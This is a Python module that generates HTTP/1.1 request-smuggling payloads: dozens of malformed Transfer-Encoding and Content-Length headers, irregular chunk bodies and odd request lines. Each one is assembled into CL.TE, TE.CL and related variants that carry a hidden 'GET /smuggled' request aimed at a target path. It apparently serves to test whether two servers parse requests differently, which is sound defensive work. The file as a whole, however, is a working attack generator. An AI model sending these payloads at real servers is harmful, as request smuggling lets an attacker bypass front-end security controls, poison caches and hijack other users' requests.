"""Requests that two servers may read differently (RFC 9112 sections 6.1, 6.3, 7.1, 11.2), each with one hidden inside.

A payload is bytes for one HTTP/1.1 connection. `HIDDEN` stands where a smuggled request would begin: if the two servers
read the first request differently, the service sees its path.
"""

from collections.abc import Iterator

HIDDEN = b"GET /smuggled HTTP/1.1\r\nX-Swallow: "
TARGET = b"/api/v1/tools/echo"

# Spellings of Transfer-Encoding that one of two servers may take for `chunked`.
ENCODINGS = {
    "plain": b"Transfer-Encoding: chunked",
    "case": b"TRANSFER-ENCODING: CHUNKED",
    "unknown": b"Transfer-Encoding: xchunked",
    "quoted": b'Transfer-Encoding: "chunked"',
    "space before the colon": b"Transfer-Encoding : chunked",
    "tab before the colon": b"Transfer-Encoding\t: chunked",
    "no space": b"Transfer-Encoding:chunked",
    "tab": b"Transfer-Encoding:\tchunked",
    "trailing tab": b"Transfer-Encoding: chunked\t",
    "vertical tab": b"Transfer-Encoding: \x0bchunked",
    "form feed": b"Transfer-Encoding: chunked\x0c",
    "NUL": b"Transfer-Encoding: chunked\0",
    "no-break space": b"Transfer-Encoding: \xa0chunked",
    "folded line": b"Transfer-Encoding:\r\n chunked",
    "folded after another": b"X-Fold: x\r\n Transfer-Encoding: chunked",
    "bare line feed before": b"X-Line: x\nTransfer-Encoding: chunked",
    "bare carriage return before": b"X-Line: x\rTransfer-Encoding: chunked",
    "underscore": b"Transfer_Encoding: chunked",
    "leading space": b" Transfer-Encoding: chunked",
    "identity first": b"Transfer-Encoding: identity, chunked",
    "identity last": b"Transfer-Encoding: chunked, identity",
    "twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "twice, other last": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    "twice, other first": b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    "parameter": b"Transfer-Encoding: chunked;q=1",
    "comma": b"Transfer-Encoding: ,chunked",
    "gzip": b"Transfer-Encoding: gzip, chunked",
    "hop by hop": b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
}
# Content-Length that is not one plain number; {n} is what it would have to be.
LENGTHS = {
    "twice, equal": b"Content-Length: {n}\r\nContent-Length: {n}",
    "twice, first zero": b"Content-Length: 0\r\nContent-Length: {n}",
    "twice, last zero": b"Content-Length: {n}\r\nContent-Length: 0",
    "list": b"Content-Length: {n}, {n}",
    "plus": b"Content-Length: +{n}",
    "minus": b"Content-Length: -{n}",
    "hexadecimal": b"Content-Length: 0x{n}",
    "leading zeros": b"Content-Length: 000{n}",
    "underscore in the number": b"Content-Length: {n}_0",
    "fraction": b"Content-Length: {n}.0",
    "space inside": b"Content-Length: {n} 0",
    "overflow": b"Content-Length: 18446744073709551616{n}",
    "empty": b"Content-Length:",
    "space before the colon": b"Content-Length : {n}",
    "underscore": b"Content_Length: {n}",
    "folded line": b"Content-Length:\r\n {n}",
    "vertical tab": b"Content-Length: \x0b{n}",
    "hop by hop": b"Connection: Content-Length\r\nContent-Length: {n}",
    "bare carriage return before": b"X-Line: x\rContent-Length: {n}",
}
# Bodies in chunks that one of two servers may end elsewhere.
CHUNKS = {
    "bare line feed after the size": b"0\n\r\n",
    "bare line feed at the end": b"0\r\n\n",
    "extension": b"0;a=b\r\n\r\n",
    "extension with a line feed": b"0;a\nb\r\n\r\n",
    "extension with a carriage return": b"0;a\rb\r\n\r\n",
    "size with 0x": b"0x0\r\n\r\n",
    "size with plus": b"+0\r\n\r\n",
    "size with minus": b"-0\r\n\r\n",
    "size with a space": b"0 \r\n\r\n",
    "space before the size": b" 0\r\n\r\n",
    "size that overflows": b"10000000000000000\r\n\r\n",
    "no end of the data": b"1\r\nA0\r\n\r\n",
    "data longer than its size": b"1\r\nAAAA\r\n0\r\n\r\n",
    "trailer that names a length": b"0\r\nContent-Length: 40\r\n\r\n",
    "trailer that names an encoding": b"0\r\nTransfer-Encoding: chunked\r\n\r\n",
    "size in letters": b"zero\r\n\r\n",
    "no size": b"\r\n\r\n",
}
# Whole requests that are odd in their first line or their headers.
ODD = {
    "http 0.9": b"GET /api/v1/tools\r\n",
    "http 1.0 with an encoding": b"POST {t} HTTP/1.0\r\nHost: {h}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "http 2.0": b"POST {t} HTTP/2.0\r\nHost: {h}\r\nContent-Length: 0\r\n\r\n",
    "http 1.10": b"POST {t} HTTP/1.10\r\nHost: {h}\r\nContent-Length: 0\r\n\r\n",
    "another host in the target": b"GET http://other.example/smuggled HTTP/1.1\r\nHost: {h}\r\n\r\n",
    "two hosts": b"GET {t} HTTP/1.1\r\nHost: {h}\r\nHost: other.example\r\n\r\n",
    "no host": b"GET {t} HTTP/1.1\r\n\r\n",
    "GET with a body": b"GET {t} HTTP/1.1\r\nHost: {h}\r\nContent-Length: {n}\r\n\r\n",
    "expectation": b"POST {t} HTTP/1.1\r\nHost: {h}\r\nExpect: 100-continue\r\nContent-Length: {n}\r\n\r\n",
    "unknown expectation": b"POST {t} HTTP/1.1\r\nHost: {h}\r\nExpect: 200-ok\r\nContent-Length: {n}\r\n\r\n",
    "upgrade to h2c": (
        b"GET {t} HTTP/1.1\r\nHost: {h}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
        b"HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n\r\n"
    ),
    "upgrade to websocket, wrong version": (
        b"GET {t} HTTP/1.1\r\nHost: {h}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777\r\n"
        b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    ),
    "line feeds only": b"GET {t} HTTP/1.1\nHost: {h}\n\n",
    "tabs in the first line": b"GET\t{t}\tHTTP/1.1\r\nHost: {h}\r\n\r\n",
    "header without a name": b"GET {t} HTTP/1.1\r\nHost: {h}\r\n: x\r\n\r\n",
    "header without a colon": b"GET {t} HTTP/1.1\r\nHost: {h}\r\nTransfer-Encoding\r\n\r\n",
    "NUL in a header": b"GET {t} HTTP/1.1\r\nHost: {h}\r\nX-A: a\0b\r\n\r\n",
    "line break in the target": b"GET {t}%0d%0aHost:%20x HTTP/1.1\r\nHost: {h}\r\n\r\n",
    "fragment in the target": b"GET {t}#/../smuggled HTTP/1.1\r\nHost: {h}\r\n\r\n",
    "CONNECT": b"CONNECT {h}:443 HTTP/1.1\r\nHost: {h}\r\n\r\n",
}


def payloads(host: str) -> Iterator[tuple[str, bytes]]:
    """Yield name and bytes of every payload, each with a hidden request at its end."""
    name = host.encode()
    head = b"POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\n" % (TARGET, name)
    hidden, length = HIDDEN, b"%d" % len(HIDDEN)
    for what, line in ENCODINGS.items():
        # The length ends before the hidden request for one server, the empty chunk for the other; and the reverse.
        yield f"CL.TE {what}", head + b"Content-Length: %d\r\n%s\r\n\r\n0\r\n\r\n" % (5 + len(hidden), line) + hidden
        sized = b"%x\r\n%s\r\n0\r\n\r\n" % (len(hidden), hidden)
        yield (
            f"TE.CL {what}",
            head + b"Content-Length: %d\r\n%s\r\n\r\n" % (len(sized.split(b"\r\n")[0]) + 2, line) + sized,
        )
        yield f"TE {what}", head + line + b"\r\n\r\n0\r\n\r\n" + hidden
    for what, line in LENGTHS.items():
        yield f"CL {what}", head + line.replace(b"{n}", length) + b"\r\n\r\n" + hidden
    for what, body in CHUNKS.items():
        yield f"chunk {what}", head + b"Transfer-Encoding: chunked\r\n\r\n" + body + hidden
    for what, whole in ODD.items():
        for hole, value in ((b"{t}", TARGET), (b"{h}", name), (b"{n}", length)):
            whole = whole.replace(hole, value)
        yield f"odd {what}", whole + hidden
